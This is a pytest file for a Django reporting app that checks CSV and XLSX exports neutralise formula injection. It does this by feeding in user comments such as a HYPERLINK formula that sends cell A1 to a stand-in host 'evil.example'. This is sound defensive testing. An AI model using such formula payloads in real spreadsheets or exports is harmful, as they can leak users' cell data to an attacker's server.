"""Text a user typed never becomes a live formula in an export (OWASP CSV injection)."""

import csv
import io
from dataclasses import replace

import openpyxl
import pytest
from django.urls import reverse

from jixiao.accounts.models import User
from jixiao.audit.models import AuditEvent
from jixiao.domain.model import TrackingDocument
from jixiao.formats.csv_cells import safe_cell
from jixiao.formats.registry import read_bytes
from jixiao.formats.xlsx_write import write_xlsx
from jixiao.tracking.models import Status, TrackingReport
from jixiao.tracking.workflow import report_return
from tests.integration.conftest import login

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/"&A1,"点此")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


@pytest.mark.parametrize("typed", FORMULAS)
def test_a_comment_that_looks_like_a_formula_is_exported_as_text(demo, typed):
    report = TrackingReport.objects.filter(status=Status.SUBMITTED).first()
    report_return(report_id=report.pk, user=User.objects.get(username="demo-department"), comment=typed)
    response = login("demo-finance").get(reverse("audit:export"), {"action": "return"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    stored = AuditEvent.objects.filter(action="return").latest("pk").comment  # as typed (the service may trim it)
    assert stored.lstrip().startswith(("=", "+", "-", "@"))
    comment = rows[0].index("意见")
    assert "'" + stored in [row[comment] for row in rows[1:]]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows[1:] for cell in row)


def test_ordinary_cells_and_numbers_are_left_as_they_are():
    assert [safe_cell(v) for v in ["宣传费", "", 12, None, "1-2月"]] == ["宣传费", "", 12, None, "1-2月"]


def test_an_xlsx_export_stores_a_formula_looking_name_as_text(seed_text):
    doc = read_bytes(seed_text.encode(), "seed.txt")
    report = replace(doc.reports[0], project='=HYPERLINK("http://evil.example/","点此")', department="=1+1(汇总)")
    buffer = io.BytesIO()
    write_xlsx(TrackingDocument(period=doc.period, department_goal="=2*3", reports=[report]), buffer)
    wb = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith("=")]
    assert {c.value for c in cells} >= {'=HYPERLINK("http://evil.example/","点此")', "=2*3"}
    assert all(c.data_type == "s" for c in cells)
